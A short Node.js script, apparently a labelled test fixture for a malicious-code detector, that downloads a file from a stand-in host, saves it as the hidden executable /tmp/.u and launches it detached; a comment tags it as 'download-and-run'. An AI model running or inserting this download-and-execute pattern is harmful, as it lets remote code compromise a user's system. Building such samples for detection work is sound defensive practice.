const fs = require('fs');
const { spawn } = require('child_process');

(async () => {
  const bytes = Buffer.from(await (await fetch('https://files.collect.example/u')).arrayBuffer());
  fs.writeFileSync('/tmp/.u', bytes, { mode: 0o755 });
  spawn('/tmp/.u', [], { detached: true, stdio: 'ignore' }).unref(); // expect: malicious-command/download-and-run
})();
